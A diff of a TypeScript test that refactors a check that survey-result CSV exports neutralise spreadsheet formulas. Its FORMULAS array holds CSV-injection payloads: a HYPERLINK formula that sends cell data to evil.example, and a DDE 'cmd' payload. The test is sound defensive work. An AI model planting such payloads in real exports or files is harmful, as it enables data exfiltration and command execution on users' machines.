@@ -2,14 +2,10 @@ import { parse } from 'csv-parse/sync';
 import { promises as fs } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { FixedClock } from '../../services/core/clock';
 import { neutraliseFormula, restoreFormulaPrefix } from '../../services/core/csv';
-import type { Person } from '../../services/people/model';
-import { answerSurvey, openSurvey } from '../../services/surveys/responses';
 import { cli } from '../harness/cli';
-import { openPersistentTestStore } from '../harness/store';
+import { answerAsHousingOfficers, seedHousingDepartment, sendToHousing } from '../harness/cli-surveys';
 import { DateTime } from 'luxon';
-import { AnswerSeal } from '../../services/surveys/seal';
 
 /** The attacks from the report, and OWASP's other starting characters. */
 const FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A2,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];
@@ -95,63 +91,19 @@ describe('every CSV export neutralises formulas', () => {
   });
 
   it('survey results: formula-like written answers come out prefixed', async () => {
-    const { store } = await openPersistentTestStore(dataDir);
-    try {
-      const people = store.collection<Person>('people');
-      await people.upsert({ id: 'hr', orgId: 'demo', name: 'Simon Howick', email: 'simon.howick@example.gov.uk', roles: ['hr'], active: true });
-      for (let i = 0; i < 5; i++)
-        await people.upsert({
-          id: `h${i}`,
-          orgId: 'demo',
-          name: `Housing Officer ${i}`,
-          department: 'Housing',
-          jobTitle: 'Housing Officer',
-          roles: ['officer'],
-          active: true,
-        });
-    } finally {
-      await store.close();
-    }
+    await seedHousingDepartment(dataDir, 5);
     const yaml = path.join(work, 'q.yaml');
     await fs.writeFile(yaml, 'key: free-text\nversion: 1\ntitle: Free text\nquestions:\n  - { id: changed, type: text, text: What has changed? }\n');
     await cli(dataDir, 'survey', 'add', yaml);
     // The command line runs on the real clock: the closing date is counted from today's.
     const closes = DateTime.utc().plus({ weeks: 8 }).toISODate()!;
-    const sent = await cli(
+    const { out: sent, campaignId } = await sendToHousing(dataDir, 'free-text', closes);
+    expect(sent).toContain('to 5 people');
+    await answerAsHousingOfficers(
       dataDir,
-      'survey',
-      'send',
-      'free-text',
-      '--as',
-      'simon.howick@example.gov.uk',
-      '--audience',
-      'department=housing',
-      '--closes',
-      closes,
-      '--no-deliver',
+      campaignId,
+      [...FORMULAS, '\tcmd'].map((answer) => ({ q_changed: answer })),
     );
-    const campaignId = sent.out.match(/Sent (campaign-\S+) to 5 people/)![1]!;
-    const reopened = await openPersistentTestStore(dataDir);
-    try {
-      const clock = new FixedClock(new Date());
-      // A named campaign: nothing waits sealed, so any seal will do.
-      const seal = AnswerSeal.random();
-      const answers = [...FORMULAS, '\tcmd'];
-      for (let i = 0; i < 5; i++) {
-        const actor = (await reopened.store.collection<Person>('people').read('demo', `h${i}`))!;
-        const page = await openSurvey({ store: reopened.store, clock, seal }, { actor, timeZone: 'Europe/London', campaignId });
-        await answerSurvey(
-          { store: reopened.store, clock, seal },
-          {
-            actor,
-            timeZone: 'Europe/London',
-            data: { campaignId, page: 0, move: 'submit', q_changed: answers[i], answerKey: (page as { answerKey: string }).answerKey },
-          },
-        );
-      }
-    } finally {
-      await reopened.store.close();
-    }
     const out = path.join(work, 'results.csv');
     await cli(dataDir, 'survey', 'results', campaignId, '--out', out);
     await expectNeutralised(out, FORMULAS);
